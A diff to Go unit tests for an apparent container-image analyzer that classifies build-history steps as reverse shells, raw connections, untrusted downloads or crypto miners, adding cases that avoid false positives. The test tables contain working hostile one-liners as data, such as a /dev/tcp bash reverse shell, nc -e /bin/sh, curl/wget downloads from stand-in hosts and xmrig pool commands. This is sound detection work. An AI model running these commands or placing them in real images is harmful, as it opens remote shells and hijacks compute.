@@ -102,7 +102,9 @@ func TestAnalyzeStep(t *testing.T) {
 		{`RUN |1 SRC=https://evil.example/a /bin/sh -c curl -o /a "${SRC}" # buildkit`, "untrusted-download evil.example"},
 		{"RUN /bin/sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # buildkit", "reverse-shell 198.51.100.7, raw-connection 198.51.100.7"},
 		{"/bin/sh -c ./kthreadd -o 198.51.100.7:5555 -u w", "crypto-miner 198.51.100.7"},
+		{"/bin/sh -c ./kthreadd -o 198.51.100.7:5555", ""},
 		{`/bin/sh -c #(nop)  CMD ["xmrig" "-o" "198.51.100.7:3333"]`, "crypto-miner 198.51.100.7"},
+		{`/bin/sh -c #(nop)  CMD ["xmrig" "-o" "127.0.0.1:3333"]`, "crypto-miner"},
 		{`ENTRYPOINT ["/bin/sh" "-c" "nc -e /bin/sh 198.51.100.7 4444"]`, "reverse-shell 198.51.100.7, raw-connection 198.51.100.7"},
 		{"RUN /bin/sh -c curl -fsSLo /usr/bin/t https://api.github.com/t && chmod +x /usr/bin/t # buildkit", ""},
 		{"/bin/sh -c #(nop) ADD file:3b2f8c0d in /usr/local/bin/tool ", ""},
@@ -313,8 +315,15 @@ func TestAnalyzeHistory(t *testing.T) {
 			want: "-1 crypto-miner 198.51.100.7"},
 		{name: "config Env names a pool", steps: img(step{"RUN", "true"}),
 			cfg: RunConfig{Env: []string{"POOL=stratum+tcp://pool.example.net:3333"}}, want: "-1 crypto-miner pool.example.net"},
-		{name: "config repeats the history CMD", steps: img(step{"CMD", `["kswapd","-o","198.51.100.7:3333"]`}),
-			cfg: RunConfig{Cmd: []string{"kswapd", "-o", "198.51.100.7:3333"}}, want: "2 crypto-miner 198.51.100.7"},
+		{name: "config repeats the history CMD", steps: img(step{"CMD", `["kswapd","-o","198.51.100.7:3333","-u","w"]`}),
+			cfg: RunConfig{Cmd: []string{"kswapd", "-o", "198.51.100.7:3333", "-u", "w"}}, want: "2 crypto-miner 198.51.100.7"},
+		{name: "-o host:port alone is not a pool", steps: img(step{"CMD", `["/srv/app","-o","198.51.100.7:8080"]`}),
+			want: ""},
+		{name: "local health check and port wait", steps: img(
+			step{"RUN", `(./db &) && timeout 30 bash -c 'until </dev/tcp/127.0.0.1/5432; do sleep 1; done'`},
+			step{"HEALTHCHECK", `CMD ["bash","-c","echo > /dev/tcp/localhost/8080"]`},
+			step{"CMD", `["/srv/app","--url=0.0.0.0:8080","-p","x"]`}),
+			want: ""},
 		// Hole 4: connections without a download tool.
 		{name: "dev tcp reverse shell", steps: img(step{"RUN", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}),
 			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
@@ -546,7 +555,7 @@ func TestDecideBuildSteps(t *testing.T) {
 				platform("linux/arm64", "2", RunConfig{}, step{"RUN", "wget -O /opt/a http://203.0.113.9/a"}, step{"RUN", "chmod +x /opt/a"}),
 			},
 			wantOutcome: OutcomeDeny, wantEv: "kinds=[raw-ip-download] platforms=[linux/arm64] stepIndex=2"},
-		{name: "config run command", platforms: []Platform{platform("", "1", RunConfig{Cmd: []string{"/opt/svc", "-o", "198.51.100.7:3333"}}, step{"RUN", "true"})},
+		{name: "config run command", platforms: []Platform{platform("", "1", RunConfig{Cmd: []string{"/opt/svc", "-o", "198.51.100.7:3333", "-u", "w"}}, step{"RUN", "true"})},
 			wantOutcome: OutcomeDeny, wantEv: "kinds=[crypto-miner] source=config"},
 	}
 	for _, tt := range tests {
